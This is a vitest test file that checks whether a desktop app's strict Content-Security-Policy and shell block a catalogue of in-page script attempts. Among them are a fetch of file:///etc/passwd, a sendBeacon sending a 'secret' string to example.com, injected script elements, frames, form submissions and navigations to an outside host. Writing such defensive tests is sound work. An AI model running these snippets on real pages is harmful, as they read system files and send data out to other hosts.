import { expect, test } from 'vitest'
import type { Scene } from '../support/story.ts'
import { openPlan, patience, stopped, troubled, watchPolicy } from '../support/trouble.ts'

const outside = 'https://example.com/ud'

const element = (tag: string, properties: Readonly<Record<string, string>>): string =>
  `document.body.append(Object.assign(document.createElement('${tag}'), ${JSON.stringify(properties)}))`
const clicked = (properties: Readonly<Record<string, string>>): string =>
  `${element('a', { ...properties, id: 'ud' })}; document.getElementById('ud').click(); document.getElementById('ud').remove()`

/** By the directive of the policy that stops it: what a script in the page might try, and the element it might make. */
const stoppedByPolicy = {
  'connect-src': [
    `await fetch('${outside}')`,
    `await fetch('http://127.0.0.1:9/')`,
    `await fetch('file:///etc/passwd')`,
    `const request = new XMLHttpRequest(); request.open('GET', '${outside}'); request.send()`,
    `new WebSocket('wss://example.com/ud')`,
    `new EventSource('${outside}')`,
    `await new WebTransport('${outside}').ready`,
    `navigator.sendBeacon('${outside}', 'hemmeligt')`,
    clicked({ href: '#her', ping: outside }),
  ],
  'img-src': [
    element('img', { src: outside }),
    element('img', { srcset: outside }),
    element('link', { rel: 'icon', href: outside }),
    element('link', { rel: 'preload', as: 'image', href: outside }),
    `document.body.style.backgroundImage = 'url(${outside})'`,
  ],
  'style-src-elem': [
    element('link', { rel: 'stylesheet', href: outside }),
    element('style', { textContent: 'body { color: red }' }),
  ],
  'style-src-attr': [`document.body.setAttribute('style', 'color: red')`],
  'script-src-elem': [
    element('script', { src: outside }),
    element('script', { textContent: 'globalThis.inside = true' }),
    element('link', { rel: 'modulepreload', href: outside }),
  ],
  'script-src-attr': [
    `document.body.setAttribute('onclick', 'globalThis.inside = true'); document.body.click()`,
  ],
  'worker-src': [`new Worker(URL.createObjectURL(new Blob(['1'])))`],
  'font-src': [`await new FontFace('ud', 'url(${outside})').load()`],
  'media-src': [element('video', { src: outside }), element('audio', { src: outside })],
  'frame-src': [element('iframe', { src: outside })],
  'object-src': [element('object', { data: outside }), element('embed', { src: outside })],
  'form-action': [
    `${element('form', { action: outside, id: 'form' })}; document.getElementById('form').submit()`,
  ],
  'base-uri': [element('base', { href: outside })],
  'default-src': [element('link', { rel: 'prefetch', href: outside })],
} as const

/** The shell refuses it, or Chromium itself does. */
const stoppedByShell = [
  `window.open('${outside}')`,
  `location.href = '${outside}'`,
  `location.replace('${outside}')`,
  element('meta', { httpEquiv: 'refresh', content: `0;url=${outside}` }),
  clicked({ href: outside }),
  clicked({ href: outside, target: '_blank' }),
  clicked({ href: outside, download: 'ud' }),
  `await import('${outside}')`,
  `new Worker('${outside}')`,
  `await navigator.serviceWorker.register('${outside}')`,
  element('link', { rel: 'manifest', href: outside }),
] as const

/** Does it in the page, as one of its own scripts would; what it throws is its own matter. */
const attempt = ({ page }: Scene, code: string): Promise<unknown> =>
  page.evaluate(`(async () => { ${code} })().catch(() => {})`)

test('whatever a page might try, nothing leaves the computer', async () => {
  const maja = troubled()
  const scene = await maja.start({ script: watchPolicy })
  await openPlan(scene)
  const address = scene.page.url()
  const { program } = scene
  for (const [directive, attempts] of Object.entries(stoppedByPolicy)) {
    for (const code of attempts) {
      const before = (await stopped(scene)).length
      await attempt(scene, code)
      const news = async () => (await stopped(scene)).slice(before).map((line) => line.split(' ', 1)[0])
      await expect.poll(news, { ...patience, message: code }).toContain(directive)
    }
  }
  for (const code of stoppedByShell) await attempt(scene, code)
  await expect.poll(async () => (await program.windows()).length, patience).toBe(1)
  expect(
    await scene.page.evaluate(() => [location.href.split('#', 1)[0], Reflect.get(globalThis, 'inside')]),
  ).toEqual([address, undefined])
  expect(await scene.outline()).toContain('Flere børn læser')
  expect(await program.networkAttempts()).toEqual([])
  expect(await program.shell.calls()).toEqual([])
})

test('the page is served with the strict policy, and asks for no permission that it gets', async () => {
  const scene = await troubled().start()
  const response = await scene.page.reload()
  const headers = (await response?.allHeaders()) ?? {}
  expect(headers['content-security-policy']).toMatch(
    /^default-src 'none'; script-src 'self'; style-src 'self' 'nonce-[\w-]{22}'; img-src 'self' data: blob:; font-src 'self' data:; connect-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'; object-src 'none'$/,
  )
  expect(headers).toMatchObject({
    'x-content-type-options': 'nosniff',
    'cross-origin-opener-policy': 'same-origin',
    'referrer-policy': 'no-referrer',
  })
  for (const name of ['geolocation', 'notifications', 'media', 'clipboard-read', 'display-capture']) {
    expect(await scene.program.permission(name), name).toBe(false)
  }
})
